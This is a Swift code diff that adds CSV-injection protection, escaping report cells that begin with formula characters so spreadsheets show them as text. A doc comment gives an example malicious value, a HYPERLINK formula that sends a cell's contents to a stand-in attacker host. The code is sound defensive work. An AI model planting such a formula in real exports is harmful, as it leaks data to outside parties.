@@ -94,6 +94,23 @@ public enum CSV {
         }.joined(separator: String(separator))
     }
 
+    /// One line of a report (`roster audit`, `runs show --csv`, `--output csv`), each field
+    /// made safe to open in a spreadsheet (`spreadsheetCell`). A file meant to be read back
+    /// (`--failed-rows`) keeps its values exactly: `line`.
+    public static func reportLine(_ fields: [String]) -> String {
+        line(fields.map(spreadsheetCell))
+    }
+
+    /// `text` as a spreadsheet shows it rather than runs it. Excel and LibreOffice run a cell
+    /// starting with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a
+    /// formula, so a user named `=HYPERLINK("https://evil.example/?"&A1)`, from a vendor or an
+    /// input file, would become a live link in an admin's report. Such a cell gets a leading
+    /// `'`, which they hide and read as "this is text". A number (`-3`) is no formula: as it is.
+    public static func spreadsheetCell(_ text: String) -> String {
+        guard let first = text.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first), Double(text) == nil else { return text }
+        return "'" + text
+    }
+
     static let options = LuaShape([
         LuaField("header", .boolean, doc: "the first row names the columns (default true)"),
         LuaField("separator", .string, doc: "one character (default \",\")"),
